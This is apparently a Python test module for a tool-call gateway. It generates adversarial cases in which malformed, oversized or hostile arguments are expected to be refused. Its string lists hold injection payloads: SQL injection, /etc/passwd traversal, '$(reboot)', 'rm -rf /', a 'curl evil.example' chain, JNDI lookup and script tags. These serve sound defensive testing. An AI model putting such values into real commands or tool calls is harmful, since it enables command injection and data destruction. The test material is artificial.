"""Adversarial cases about hostile argument values: malformed JSON, non-object arguments, SQL,
shell and path fragments, bad service aliases, wrong types, deep nesting, 1 MB strings, and the
screens every value passes before the schema (non-finite and out-of-range numbers, NUL
characters, secrets).

A family of its own because each is refused for its value alone, at the model boundary or by the
tool's schema, and is made by a caller who may otherwise make that call: the expected code follows
from the value, not from who asks.
"""

from __future__ import annotations

from typing import Any

from toolgate.evals.adversarial.case import MB, REFUND, AdversarialCase, Call

MALFORMED = [
    "{",
    "}",
    "[]",
    "null",
    '"O-5512"',
    "{'order_id': 'O-5512'}",
    '{"order_id": "O-5512"',
    '{"order_id": O-5512}',
    '{"order_id": "O-5512"} trailing',
    "NaN",
    "{" * 5000,
    '{"order_id": "' + "x" * MB,
    "\x00\x01",
]
INJECTION_STRINGS = [
    "O-5512' OR 1=1 --",
    "O-5512; DROP TABLE sor_orders",
    "../../etc/passwd",
    "$(reboot)",
    "`id`",
    "O-5512\nO-7001",
    "O-5512 && curl evil.example",
    "%2e%2e%2f",
    "O-5512\u202e",
    "O-" + "9" * 400,
    "x" * MB,
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "O-\uff15\uff15\uff11\uff12",  # fullwidth digits
]
BAD_ALIASES = [
    "database",
    "web; rm -rf /",
    "../../etc/passwd",
    "WEB",
    "w\u0435b",  # Cyrillic e
    "web ",
    "*",
    "",
    "systemd",
    "web\x00",
    "x" * MB,
]


def _deep(depth: int) -> dict[str, Any]:
    node: dict[str, Any] = {"leaf": 1}
    for _ in range(depth):
        node = {"n": node}
    return node


def _expected_for(value: str) -> str:
    """Values that cannot be judged are refused at the model boundary: past the argument size bound
    as malformed, with a NUL character as such; the rest fail the schema."""
    if len(value.encode("utf-8")) > 65_536:
        return "malformed_arguments"
    return "nul_character" if "\x00" in value else "schema_invalid"


def argument_form_cases() -> list[AdversarialCase]:
    """Unparseable and non-object arguments, hostile strings in ids and aliases, wrong types and
    values past the size and depth bounds."""
    cases: list[AdversarialCase] = []
    for i, raw in enumerate(MALFORMED):
        for tool in ("lookup_order", "issue_refund"):
            cases.append(
                AdversarialCase(
                    f"malformed_{tool}_{i}",
                    "malformed_arguments",
                    "malformed_arguments",
                    (Call(tool, raw=raw),),
                )
            )
    for i, non_object in enumerate([["O-5512"], "O-5512", 5512, None, True]):
        cases.append(
            AdversarialCase(
                f"non_object_args_{i}",
                "malformed_arguments",
                "malformed_arguments",
                (Call("lookup_order", non_object),),
            )
        )
    for i, value in enumerate(INJECTION_STRINGS):
        code = _expected_for(value)
        cases.append(
            AdversarialCase(
                f"order_id_fragment_{i}", code, code, (Call("lookup_order", {"order_id": value}),)
            )
        )
        cases.append(
            AdversarialCase(
                f"refund_fragment_{i}", code, code, (Call("issue_refund", {**REFUND, "order_id": value}),)
            )
        )
    for i, alias in enumerate(BAD_ALIASES):
        code = _expected_for(alias)
        cases.append(
            AdversarialCase(
                f"bad_alias_status_{i}",
                code,
                code,
                (Call("get_service_status", {"service_alias": alias}),),
                user="omar",
            )
        )
        cases.append(
            AdversarialCase(
                f"bad_alias_restart_{i}",
                code,
                code,
                (Call("restart_service", {"service_alias": alias, "reason": "x" * 10}),),
                user="omar",
            )
        )
    wrong_types: list[dict[str, Any]] = [
        {**REFUND, "amount_cents": "4999"},
        {**REFUND, "amount_cents": 49.99},
        {**REFUND, "amount_cents": True},
        {**REFUND, "amount_cents": None},
        {**REFUND, "amount_cents": -1},
        {**REFUND, "amount_cents": 0},
        {**REFUND, "amount_cents": 10**12},
        {**REFUND, "reason": "because"},
        {"order_id": "O-5512"},
        {**REFUND, "extra": 1},
        {**REFUND, "nested": _deep(200)},
        {},
        {**REFUND, "reason": None},
        {**REFUND, "amount_cents": [4999]},
        {**REFUND, "order_id": {"$ne": ""}},
    ]
    for i, args in enumerate(wrong_types):
        code = "malformed_arguments" if "nested" in args else "schema_invalid"
        cases.append(AdversarialCase(f"refund_schema_{i}", code, code, (Call("issue_refund", args),)))
    cases.append(
        AdversarialCase(
            "deep_nesting_read",
            "malformed_arguments",
            "malformed_arguments",
            (Call("lookup_order", {"order_id": "O-5512", "filter": _deep(900)}),),
        )
    )
    cases.append(
        AdversarialCase(
            "restart_reason_too_long",
            "malformed_arguments",
            "malformed_arguments",
            (Call("restart_service", {"service_alias": "web", "reason": "r" * MB}),),
            user="omar",
        )
    )
    return cases


def value_screen_cases() -> list[AdversarialCase]:
    """Values the screens before the schema refuse: NaN and infinite amounts, integers past 64
    bits, a NUL in the call id, and an API key or card number as an argument."""
    return [
        AdversarialCase(
            "nan_amount",
            "non_finite_number",
            "non_finite_number",
            (Call("issue_refund", {**REFUND, "amount_cents": float("nan")}),),
        ),
        AdversarialCase(
            "infinite_amount",
            "non_finite_number",
            "non_finite_number",
            (Call("issue_refund", {**REFUND, "amount_cents": float("-inf")}),),
        ),
        AdversarialCase(
            "amount_beyond_64_bits",
            "number_out_of_range",
            "number_out_of_range",
            (Call("issue_refund", {**REFUND, "amount_cents": 2**64 + 1}),),
        ),
        AdversarialCase(
            "nul_in_call_id",
            "nul_character",
            "nul_character",
            (Call("lookup_order", {"order_id": "O-5512"}, call_id="call\x00nul"),),
        ),
        AdversarialCase(
            "api_key_in_arguments",
            "secret_in_arguments",
            "secret_in_arguments",
            (Call("issue_refund", {**REFUND, "reason": "other", "order_id": "sk-live-" + "a1B2" * 8}),),
        ),
        AdversarialCase(
            "card_number_in_arguments",
            "secret_in_arguments",
            "secret_in_arguments",
            (Call("lookup_order", {"order_id": "4111 1111 1111 1111"}),),
        ),
    ]


__all__ = ["BAD_ALIASES", "INJECTION_STRINGS", "MALFORMED", "argument_form_cases", "value_screen_cases"]
